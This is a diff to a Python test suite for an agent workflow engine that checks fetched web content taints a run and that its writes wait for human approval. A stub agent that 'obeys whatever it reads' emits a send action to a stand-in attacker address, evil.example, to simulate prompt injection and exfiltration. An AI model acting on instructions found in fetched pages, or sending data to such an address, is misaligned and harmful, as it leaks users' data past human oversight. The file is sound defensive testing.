@@ -25,7 +25,7 @@ def _corpus(name: str) -> list[dict]:
     return [json.loads(line) for line in (DATA / name).read_text().splitlines() if line.strip()]
 
 
-def _obeying_agent(make_workflow):
+def _obeying_agent(make_workflow, **options):
     """Fetch a page, let a model that obeys whatever it reads pick an action,
     then do it: a write (test.send) or an egress (test.unsafe_send)."""
     obey = {"text": '{"action": "send", "to": "attacker@evil.example"}'}
@@ -75,7 +75,7 @@ def _obeying_agent(make_workflow):
         },
         {"key": "done", "kind": "end"},
     ]
-    return make_workflow(steps)
+    return make_workflow(steps, **options)
 
 
 def test_no_planted_injection_leads_to_an_unapproved_write_or_egress(make_workflow):
@@ -99,13 +99,25 @@ def test_no_planted_injection_leads_to_an_unapproved_write_or_egress(make_workfl
     assert reasons == {"tainted_run"}
 
 
-def test_the_same_agent_on_a_clean_page_writes_without_asking(make_workflow):
+def test_a_clean_page_still_taints_the_run_and_its_write_waits_for_a_person(make_workflow):
     version = _obeying_agent(make_workflow)
     page = "Acme makes pallets in Ohio; 120 staff; looking for a new ERP next quarter."
     run = drive(
         engine.start_run(workflow=version.workflow, input={"page": page, "channel": "write"}).run.pk
     )
-    assert (run.status, run.tainted) == ("succeeded", False)
+    assert (run.status, run.wait_reason, run.tainted) == ("waiting", "approval", True)
+    assert run.taint_signals == ""  # nothing looked like an injection; the source decides
+    assert not Execution.objects.filter(step_key="write").exists()
+
+
+def test_a_policy_that_trusts_the_tool_lets_a_tainted_run_write(make_workflow):
+    trust = {"tool": "test.send", "mode": "auto", "trusted_destinations": ["*"]}
+    version = _obeying_agent(make_workflow, policy={"autonomy": [trust]})
+    page = "Acme makes pallets in Ohio; 120 staff; looking for a new ERP next quarter."
+    run = drive(
+        engine.start_run(workflow=version.workflow, input={"page": page, "channel": "write"}).run.pk
+    )
+    assert (run.status, run.tainted) == ("succeeded", True)
     assert Execution.objects.filter(step_key="write").count() == 1
 
 
